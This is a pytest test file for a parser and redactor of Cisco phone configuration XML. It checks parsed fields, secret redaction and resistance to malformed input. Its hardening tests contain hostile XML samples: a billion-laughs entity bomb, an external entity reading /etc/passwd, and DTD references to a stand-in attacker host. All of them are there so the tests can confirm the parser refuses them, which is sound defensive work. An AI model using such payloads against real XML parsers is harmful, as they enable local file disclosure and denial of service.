"""scanner.core.devconfig: SEP<MAC>.cnf.xml parsing, hardening and secret redaction."""

from __future__ import annotations

import contextlib
import dataclasses
import subprocess
import sys
import time
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from scanner.core.devconfig import (
    MAX_CONFIG_BYTES,
    REDACTED,
    CallManagerMember,
    CapfServer,
    DeviceConfig,
    TvsMember,
    is_secret_name,
    parse_device_config,
    redact_config_xml,
)
from scanner.core.errors import ParseError

CONFIGS = Path(__file__).resolve().parent / "data" / "configs"
FIXTURE = CONFIGS / "SEP00562B0431AA.cnf.xml"
# The clear-text secrets written into the fixture: none may survive parsing or redaction.
SECRETS = (
    "Ssh-Pa55word-XYZZY",
    "Admin-Pa55word-PLUGH",
    "Line-Digest-Secret-4711",
    "Proxy-Pa55-QUUX",
)


@pytest.fixture(scope="module")
def raw() -> bytes:
    return FIXTURE.read_bytes()


@pytest.fixture(scope="module")
def config(raw: bytes) -> DeviceConfig:
    return parse_device_config(raw)


def _device(body: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<device xsi:type="axl:XIPPhone">\n{body}\n</device>\n'.encode()


# --- the realistic fixture, field by field -------------------------------------------------------


def test_fixture_identity_and_security(config: DeviceConfig) -> None:
    assert config.root_tag == "device"
    assert config.device_name is None  # CUCM names the device in the file name only
    assert config.device_protocol == "SIP"
    assert config.full_config is True
    assert config.device_security_mode == 3
    assert config.device_security_mode_name == "encrypted"
    assert config.is_secure is True
    assert config.transport_layer_protocol == 4
    assert config.transport_layer_protocol_name is None  # 4 is undocumented: no guessed name
    assert config.version_stamp == "1712131415-0c9b8a7d-6e5f-4a3b-2c1d-0e9f8a7b6c5d"


def test_fixture_device_pool_and_call_managers(config: DeviceConfig) -> None:
    assert config.device_pool_name == "DP-HQ-Secure"
    assert config.call_manager_group_name == "CMG-HQ"
    assert config.call_managers == (
        CallManagerMember(0, "cucm-sub1", "Subscriber 1", "cucm-sub1.lab.example.net", 2000, 5060, 5061),
        CallManagerMember(1, "cucm-sub2", "Subscriber 2", "cucm-sub2.lab.example.net", 2000, 5060, 5061),
        CallManagerMember(2, "cucm-pub", "Publisher", "cucm-pub.lab.example.net", 2000, 5060, 5061),
    )


def test_fixture_tvs(config: DeviceConfig) -> None:
    assert config.tvs == (
        TvsMember("cucm-sub1.lab.example.net", 2445, 0),
        TvsMember("cucm-sub2.lab.example.net", 2445, 1),
        TvsMember("cucm-pub.lab.example.net", 2445, 2),
    )


def test_fixture_capf_cert_hash_encryption(config: DeviceConfig) -> None:
    assert config.capf_auth_mode == 0
    assert config.capf_auth_mode_name == "none-pending"
    assert config.capf_servers == (CapfServer("cucm-pub.lab.example.net", 3804),)
    assert config.cert_hash == "5b3c110a9fe24760c819aa047d3e21f0"  # hex, separators dropped
    assert config.encr_config is False


def test_fixture_loads_prefer_the_root_level_element(config: DeviceConfig) -> None:
    # addOnModule/loadInformation (a sidecar's firmware) must not shadow the phone's own load.
    assert config.load_information == "sip88xx.14-2-1-0001-14"
    assert config.inactive_load_information == "sip88xx.12-8-1-0001-455"
    assert config.load_server == "tftp-hq.lab.example.net"


def test_fixture_access_settings_vendor_config_wins(config: DeviceConfig) -> None:
    # vendorConfig says 0 (enabled); commonConfig and enterpriseConfig say 1 (disabled).
    assert config.web_access == 0
    assert config.web_access_enabled is True
    assert config.ssh_access == 0
    assert config.ssh_access_enabled is True
    assert config.settings_access == 1
    assert config.web_protocol == 1
    assert config.services_use_https is True


def test_fixture_urls_and_vendor_config(config: DeviceConfig) -> None:
    urls = dict(config.urls)
    assert urls["secureAuthenticationURL"] == "https://cucm-pub.lab.example.net:8443/ccmcip/authenticate.jsp"
    assert "idleURL" not in urls  # empty elements are left out
    assert urls["proxyServerURL"] == f"http://webproxy:{REDACTED}@proxy.lab.example.net:3128"
    vendor = dict(config.vendor_config)
    assert vendor["webAccess"] == "0"
    assert vendor["sshPassword"] == REDACTED
    assert vendor["adminPassword"] == REDACTED


def test_fixture_redacted_fields_name_only_the_secrets_that_had_values(config: DeviceConfig) -> None:
    # phonePassword is empty in the fixture: nothing to hide, so not listed.
    assert config.redacted_fields == ("authPassword", "sshPassword", "adminPassword")


def test_without_redacted_fields_only_that_field_differs(raw: bytes, config: DeviceConfig) -> None:
    # The readiness checks parse without the secret-field walk; everything else must be the same.
    lean = parse_device_config(raw, with_redacted_fields=False)
    assert lean.redacted_fields == ()
    assert dataclasses.replace(lean, redacted_fields=config.redacted_fields) == config


@given(st.binary(max_size=300) | st.sampled_from([b"<device><TVS><members>", b"<a><b>x</b></a>", b"<device/>"]))
@settings(max_examples=200, deadline=None)
def test_without_redacted_fields_refuses_the_same_input(data: bytes) -> None:
    def outcome(**kw: bool) -> str:
        try:
            cfg = parse_device_config(data, **kw)
        except ParseError as exc:
            return f"refused: {exc}"
        return repr(dataclasses.replace(cfg, redacted_fields=()))

    assert outcome(with_redacted_fields=False) == outcome()


def test_no_secret_in_anything_the_parser_returns(config: DeviceConfig) -> None:
    text = repr(config) + str(config)
    for secret in SECRETS[:3]:
        assert secret not in text
    # the proxy password is only ever inside a URL, which is scrubbed
    assert SECRETS[3] not in text


# --- redaction of the stored evidence ---------------------------------------------------------


def test_redact_removes_every_secret_and_keeps_everything_else(raw: bytes, config: DeviceConfig) -> None:
    redacted = redact_config_xml(raw)
    for secret in SECRETS[:3]:
        assert secret.encode() not in redacted
    assert b"<sshPassword>********</sshPassword>" in redacted
    assert b"<phonePassword></phonePassword>" in redacted  # empty stays empty
    # Only the secret lines changed, and the result still parses to the same facts.
    before, after = raw.splitlines(), redacted.splitlines()
    assert len(before) == len(after)
    changed = [b for b, a in zip(before, after, strict=True) if b != a]
    assert len(changed) == 3 and all(b"Password>" in line for line in changed)
    again = parse_device_config(redacted)
    assert again.tvs == config.tvs and again.call_managers == config.call_managers
    assert again.redacted_fields == config.redacted_fields  # "********" is still a value


@pytest.mark.parametrize(
    ("xml", "expected"),
    [
        (b"<a><SSHPASSWORD>x1</SSHPASSWORD></a>", b"<a><SSHPASSWORD>********</SSHPASSWORD></a>"),
        (
            b"<a><p:adminPassword>x</p:adminPassword></a>",
            b"<a><p:adminPassword>********</p:adminPassword></a>",
        ),
        (b'<a><sshPassword a="1">x</sshPassword ></a>', b'<a><sshPassword a="1">********</sshPassword ></a>'),
        (b"<a><sshPassword><![CDATA[p<w]]></sshPassword></a>", b"<a><sshPassword>********</sshPassword></a>"),
        (b"<a><sshPassword/><b>k</b></a>", b"<a><sshPassword/><b>k</b></a>"),
        (b"<a><sshPassword>  </sshPassword></a>", b"<a><sshPassword>  </sshPassword></a>"),
        (b'<line authPassword="pw" name="n"/>', b'<line authPassword="********" name="n"/>'),
        (b"<line password='pw'>", b"<line password='********'>"),
        (
            b"<a><ccmSecret>s</ccmSecret><authString>123</authString></a>",
            b"<a><ccmSecret>********</ccmSecret><authString>********</authString></a>",
        ),
        # truncated: no end tag, the value runs to the end / the next markup
        (b"<a><sshPassword>hunter2", b"<a><sshPassword>********"),
        (b"<a><sshPassword>hunter2<b>k</b>", b"<a><sshPassword>********<b>k</b>"),
        # broken start tag: attribute values are still redacted
        (b'<a adminPassword="pw', b'<a adminPassword="********'),
        # inside a comment: over-redaction is the safe direction
        (b"<!-- <sshPassword>old</sshPassword> --><a/>", b"<!-- <sshPassword>********</sshPassword> --><a/>"),
        # nothing secret: byte-for-byte the same, even when broken
        (b"<a x='1'><b>text</b><c", b"<a x='1'><b>text</b><c"),
    ],
)
def test_redact_cases(xml: bytes, expected: bytes) -> None:
    assert redact_config_xml(xml) == expected


def test_redact_utf16_and_utf32_in_their_own_encoding() -> None:
    doc = '<?xml version="1.0" encoding="UTF-16"?><a><sshPassword>wide-secret</sshPassword></a>'
    for encoded in (doc.encode("utf-16"), doc.encode("utf-16-be"), doc.encode("utf-32-le")):
        out = redact_config_xml(encoded)
        assert "wide-secret".encode("utf-16-le") not in out and "wide-secret".encode("utf-16-be") not in out
        assert "wide-secret".encode("utf-32-le") not in out
    parsed = parse_device_config(doc.encode("utf-16"))
    assert parsed.redacted_fields == ("sshPassword",)
    assert redact_config_xml(doc.encode("utf-16")).decode("utf-16") == doc.replace("wide-secret", REDACTED)


def test_is_secret_name() -> None:
    for name in ("sshPassword", "adminPassword", "phonePassword", "PASSWORD", "x:authPassword", "ccmSecret"):
        assert is_secret_name(name)
    for name in ("sshUserId", "authName", "certHash", "webAccess", "pcPort"):
        assert not is_secret_name(name)


# --- hardening -------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<device><deviceSecurityMode>&lol9;</deviceSecurityMode></device>
"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE device [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<device><loadInformation>&xxe;</loadInformation></device>
"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE device SYSTEM "http://attacker.invalid/evil.dtd">
<device/>
"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE device [ <!ENTITY % remote SYSTEM "http://attacker.invalid/x"> %remote; ]>
<device/>
"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY])
def test_dtd_entities_and_external_references_are_refused(doc: bytes) -> None:
    with pytest.raises(ParseError) as info:
        parse_device_config(doc)
    assert "DTD" in info.value.reason and "refused" in info.value.reason
    assert "entit" in info.value.reason  # says why: entity expansion / external entities
    assert info.value.line == 2


def test_undeclared_entity_is_a_parse_error_with_line() -> None:
    with pytest.raises(ParseError) as info:
        parse_device_config(_device("<certHash>&xxe;</certHash>"))
    assert info.value.line == 3
    assert "undefined entity" in info.value.reason


def test_truncated_xml_names_a_line(raw: bytes) -> None:
    cut = raw[: raw.index(b"<TVS>") + 40]
    with pytest.raises(ParseError) as info:
        parse_device_config(cut)
    assert info.value.line == cut.count(b"\n") + 1
    assert "malformed XML" in info.value.reason


def test_every_prefix_parses_or_raises_parse_error(raw: bytes) -> None:
    complete = raw.rstrip()
    for end in range(0, len(raw), 7):
        prefix = raw[:end]
        try:
            parse_device_config(prefix)
        except ParseError as exc:
            assert exc.line is not None and exc.line >= 1
        else:
            assert prefix.rstrip() == complete


@pytest.mark.parametrize(
    "payload",
    [
        b"",
        b"   \n",
        b"\x03\x00\x00\x00\x01\x02\x00\x0cSEP.cnf.xml.sgn",  # a .sgn header left on
        bytes(range(256)),  # an encrypted .enc.sgn body
        b"hello, this is not xml",
        b"<device><unclosed></device>",
        b"<a/><b/>",
        b'<?xml version="1.0" encoding="bogus"?><device/>',
        b'<?xml version="1.0" encoding="shift_jis"?><device/>',
    ],
)
def test_non_xml_and_malformed_payloads(payload: bytes) -> None:
    with pytest.raises(ParseError):
        parse_device_config(payload)


def test_size_limit() -> None:
    big = _device("<x>" + "a" * MAX_CONFIG_BYTES + "</x>")
    with pytest.raises(ParseError, match="too large"):
        parse_device_config(big)


def test_wrong_input_type_is_a_parse_error() -> None:
    with pytest.raises(ParseError):
        parse_device_config("<device/>")  # type: ignore[arg-type]
    assert parse_device_config(bytearray(b"<device/>")).root_tag == "device"  # type: ignore[arg-type]


# --- tolerance -------------------------------------------------------------------------------


def test_minimal_config_gives_empty_values() -> None:
    config = parse_device_config(b"<device/>")
    assert config.tvs == () and config.call_managers == () and config.capf_servers == ()
    assert config.device_security_mode is None and config.device_security_mode_name is None
    assert config.is_secure is None and config.web_access_enabled is None
    assert config.full_config is None and config.redacted_fields == ()


def test_whitespace_unknown_elements_and_out_of_order_priorities() -> None:
    config = parse_device_config(
        _device(
            """
  <unknownThing a="b"><nested>1</nested></unknownThing>
  <deviceSecurityMode>
      2
  </deviceSecurityMode>
  <fullConfig> TRUE </fullConfig>
  <TVS><members>
    <member priority=" 2 "><port> 2445 </port><address> tvs-c </address></member>
    <member priority="0"><address>tvs-a</address></member>
    <member><port>2445</port><address>tvs-z</address></member>
    <member priority="1"><port></port><address>tvs-b</address></member>
  </members></TVS>"""
        )
    )
    assert config.device_security_mode_name == "authenticated"
    assert config.full_config is True
    assert [m.address for m in config.tvs] == ["tvs-a", "tvs-b", "tvs-c", "tvs-z"]
    assert config.tvs[0] == TvsMember("tvs-a", None, 0)
    assert config.tvs[1].port is None and config.tvs[3].priority is None


def test_xmldefault_layout_group_and_tvs_at_root() -> None:
    doc = b"""<Default>
<callManagerGroup><name>Default</name><members>
<member priority="0"><callManager><name>10.0.0.5</name><ports><ethernetPhonePort>2000</ethernetPhonePort>
</ports><processNodeName>10.0.0.5</processNodeName></callManager></member>
</members></callManagerGroup>
<TVS><members><member priority="0"><port>2445</port><address>10.0.0.5</address></member></members></TVS>
</Default>"""
    config = parse_device_config(doc)
    assert config.root_tag == "Default"
    assert config.call_manager_group_name == "Default"
    assert config.call_managers == (CallManagerMember(0, "10.0.0.5", None, "10.0.0.5", 2000, None, None),)
    assert config.tvs == (TvsMember("10.0.0.5", 2445, 0),)
    assert config.device_pool_name is None


def test_encrypted_companion_short_file() -> None:
    # The short SEP<MAC>.cnf.xml.sgn that accompanies an .enc.sgn (spec 4.4).
    config = parse_device_config(
        _device(
            "<fullConfig>false</fullConfig><ipAddressMode>0</ipAddressMode>"
            "<loadInformation>sip88xx.14-2-1-0001-14</loadInformation><capfAuthMode>4</capfAuthMode>"
            "<capfList><capf><phonePort>3804</phonePort><processNodeName>capf.example.net</processNodeName>"
            "</capf></capfList><certHash>00 11 22 33 44 55 66 77 88 99 AA BB CC DD EE FF</certHash>"
            "<encrConfig>true</encrConfig>"
        )
    )
    assert config.full_config is False and config.encr_config is True
    assert config.capf_auth_mode_name == "mic"
    assert config.cert_hash == "00112233445566778899aabbccddeeff"


def test_cucm_common_config_disables_web_access_when_vendor_config_is_silent() -> None:
    config = parse_device_config(
        _device(
            "<vendorConfig><pcPort>0</pcPort></vendorConfig>"
            "<commonConfig><webAccess>1</webAccess><sshAccess>1</sshAccess></commonConfig>"
            "<enterpriseConfig><webProtocol>0</webProtocol><webAccess>0</webAccess></enterpriseConfig>"
        )
    )
    assert config.web_access == 1 and config.web_access_enabled is False
    assert config.ssh_access_enabled is False
    assert config.web_protocol == 0  # only the enterprise section says it


def test_unknown_access_code_is_kept_raw_not_guessed() -> None:
    config = parse_device_config(_device("<vendorConfig><webAccess>2</webAccess></vendorConfig>"))
    assert config.web_access == 2 and config.web_access_enabled is None


@pytest.mark.parametrize(
    ("body", "line"),
    [
        ("<deviceSecurityMode>secure</deviceSecurityMode>", 3),
        ("\n<encrConfig>maybe</encrConfig>", 4),
        ("<TVS><members>\n<member priority='first'><address>a</address></member></members></TVS>", 4),
        (
            "<devicePool><callManagerGroup><members><member><callManager><ports>\n"
            "<sipPort>50x60</sipPort></ports></callManager></member></members></callManagerGroup></devicePool>",
            4,
        ),
        ("<phoneServices useHTTPS='sometimes'/>", 3),
    ],
)
def test_wrongly_typed_known_values_name_their_line(body: str, line: int) -> None:
    with pytest.raises(ParseError) as info:
        parse_device_config(_device(body))
    assert info.value.line == line


def test_root_level_device_name_when_present() -> None:
    assert parse_device_config(_device("<deviceName>SEP00562B0431AA</deviceName>")).device_name == (
        "SEP00562B0431AA"
    )


def test_deep_nesting_does_not_hit_recursion_limits() -> None:
    depth = 50_000
    doc = b"<device>" + b"<x>" * depth + b"</x>" * depth + b"</device>"
    assert parse_device_config(doc).root_tag == "device"


@pytest.mark.parametrize(
    "unit",
    [
        b"<sshPassword>x",
        b"<sshPassword><![CDATA[",
        b"<a ",
        b'<a x="',
        b"<a password='x' ",
        b"<password>",
        b"<",
    ],
)
def test_pathological_input_is_linear(unit: bytes) -> None:
    data = unit * (256 * 1024 // len(unit))
    start = time.perf_counter()
    redact_config_xml(data)
    with contextlib.suppress(ParseError):
        parse_device_config(data)
    assert time.perf_counter() - start < 5.0


def test_module_imports_no_io() -> None:
    code = (
        "import sys, scanner.core.devconfig\n"
        "bad = [m for m in ('asyncio', 'socket', 'ssl', 'aiohttp', 'urllib.request') if m in sys.modules]\n"
        "assert not bad, bad\n"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# --- fuzzing: ParseError or a result, nothing else ------------------------------------------


@settings(max_examples=300, deadline=None)
@given(st.binary(max_size=2048))
def test_fuzz_arbitrary_bytes(data: bytes) -> None:
    try:
        result: DeviceConfig | None = parse_device_config(data)
    except ParseError:
        result = None
    assert result is None or isinstance(result, DeviceConfig)
    assert isinstance(redact_config_xml(data), bytes)  # never raises on bytes


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_fuzz_mutated_fixture(data: st.DataObject) -> None:
    raw = FIXTURE.read_bytes()
    start = data.draw(st.integers(0, len(raw)))
    end = data.draw(st.integers(start, min(len(raw), start + 64)))
    insert = data.draw(
        st.binary(max_size=16) | st.sampled_from([b"<", b">", b"&", b"</device>", b"<!DOCTYPE x>"])
    )
    mutated = raw[:start] + insert + raw[end:]
    try:
        result = parse_device_config(mutated)
    except ParseError:
        return
    assert isinstance(result, DeviceConfig)


@settings(max_examples=200, deadline=None)
@given(
    secret=st.text(
        st.characters(codec="utf-8", exclude_characters="<>&*", exclude_categories=("Cc", "Cs", "Cn")),
        max_size=30,
    ).map(lambda tail: f"S3CR3T{tail}"),
    tag=st.sampled_from(["sshPassword", "adminPassword", "PhonePassword", "wlanPassword", "ccmSecret"]),
    cut=st.integers(0, 200),
)
def test_fuzz_redaction_never_leaks(secret: str, tag: str, cut: int) -> None:
    raw = FIXTURE.read_bytes()
    doc = raw.replace(b"<disableSpeaker>", f"<{tag}>{secret}</{tag}><disableSpeaker>".encode())
    # also a truncated copy ending inside or after the secret
    truncated = doc[: doc.index(f"<{tag}>".encode()) + len(tag) + 2 + cut]
    for candidate in (doc, truncated):
        out = redact_config_xml(candidate)
        assert secret.encode() not in out
    parsed = parse_device_config(doc)
    assert secret not in repr(parsed)
    assert tag in parsed.redacted_fields
